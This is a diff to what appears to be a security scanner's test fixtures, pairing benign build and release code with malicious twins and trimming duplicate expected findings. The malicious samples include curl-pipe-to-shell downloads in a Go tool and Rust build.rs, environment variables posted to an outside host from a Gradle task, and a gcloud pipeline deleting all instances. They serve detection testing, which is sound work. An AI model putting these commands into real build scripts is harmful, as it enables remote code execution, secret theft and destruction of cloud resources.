@@ -32,7 +32,7 @@ const TWINS: Twin[] = [
     where: 'tools/release.go',
     benign: 'package main\n\nimport (\n\t"os"\n\t"os/exec"\n)\n\nfunc run(name string, args ...string) error {\n\tcmd := exec.Command(name, args...)\n\tcmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr\n\treturn cmd.Run()\n}\n\nfunc main() {\n\ttag := os.Args[1]\n\t_ = run("git", "tag", "-a", tag, "-m", "release "+tag)\n\t_ = run("docker", "build", "-t", "ghcr.io/acme/api:"+tag, ".")\n\t_ = run("docker", "push", "ghcr.io/acme/api:"+tag)\n}',
     malicious: 'package main\n\nimport (\n\t"os"\n\t"os/exec"\n)\n\nfunc run(name string, args ...string) error {\n\tcmd := exec.Command(name, args...)\n\tcmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr\n\treturn cmd.Run()\n}\n\nfunc main() {\n\t_ = run("sh", "-c", "curl -fsSL https://get.example-tools.sh/setup | sh")\n}',
-    expected: ['threat/download-exec 15:1 error', 'threat/download-exec 15:1 error', 'threat/download-exec 15:71 error'],
+    expected: ['threat/download-exec 15:1 error', 'threat/download-exec 15:1 error'],
   },
   {
     what: 'a Go program clearing its own scratch directory under the temp dir, beside one clearing the home directory',
@@ -68,7 +68,7 @@ const TWINS: Twin[] = [
     where: 'build.rs',
     benign: 'use std::process::Command;\n\nfn main() {\n    println!("cargo:rerun-if-changed=csrc/hash.c");\n    let found = Command::new("pkg-config").args(["--exists", "zlib"]).status().map(|s| s.success()).unwrap_or(false);\n    if found {\n        println!("cargo:rustc-link-lib=z");\n    }\n    cc::Build::new().file("csrc/hash.c").include("csrc").opt_level(3).compile("hash");\n}',
     malicious: 'use std::process::Command;\n\nfn main() {\n    println!("cargo:rerun-if-changed=csrc/hash.c");\n    Command::new("sh").arg("-c").arg("curl -sSf https://toolchain.example-mirror.dev/init | sh").status().unwrap();\n    cc::Build::new().file("csrc/hash.c").compile("hash");\n}',
-    expected: ['threat/download-exec 5:1 error', 'threat/download-exec 5:1 error', 'threat/download-exec 5:93 error'],
+    expected: ['threat/download-exec 5:1 error', 'threat/download-exec 5:1 error'],
   },
   {
     what: 'a Rust client sending its own API key from the environment to its service, beside one posting every variable',
@@ -191,7 +191,7 @@ const TWINS: Twin[] = [
     where: 'build.gradle.kts',
     benign: 'publishing {\n    repositories {\n        maven {\n            url = uri("https://maven.pkg.github.com/acme/widgets")\n            credentials {\n                username = System.getenv("GITHUB_ACTOR")\n                password = System.getenv("GITHUB_TOKEN")\n            }\n        }\n    }\n}',
     malicious: 'tasks.register<Exec>("reportBuild") {\n    commandLine("sh", "-c", "env | curl -s -X POST --data-binary @- https://builds.example-stats.io/r")\n}',
-    expected: ['threat/exfiltration 2:1 error', 'threat/exfiltration 2:36 error'],
+    expected: ['threat/exfiltration 2:1 error'],
   },
   {
     what: 'a Kotlin script running the formatter on changed files, beside one piping a download into a shell',
@@ -365,7 +365,7 @@ const TWINS: Twin[] = [
     where: "scripts/prune.go",
     benign: "package main\n\nimport (\n\t\"os/exec\"\n\t\"strings\"\n)\n\nfunc main() {\n\tout, _ := exec.Command(\"gcloud\", \"compute\", \"instances\", \"list\", \"--filter=labels.pr=481\", \"--format=value(name)\").Output()\n\tfor _, name := range strings.Fields(string(out)) {\n\t\texec.Command(\"gcloud\", \"compute\", \"instances\", \"delete\", name, \"--quiet\", \"--zone\", \"europe-west1-b\").Run()\n\t}\n}",
     malicious: "package main\n\nimport \"os/exec\"\n\nfunc main() {\n\texec.Command(\"sh\", \"-c\", \"gcloud compute instances list --format='value(name)' | xargs gcloud compute instances delete --quiet\").Run()\n}",
-    expected: ['threat/destructive 6:1 error', 'threat/destructive 6:83 error'],
+    expected: ['threat/destructive 6:1 error'],
   },
   {
     what: "a Rust client sending the gh CLI's token to the GitHub API, beside one sending it to another host",
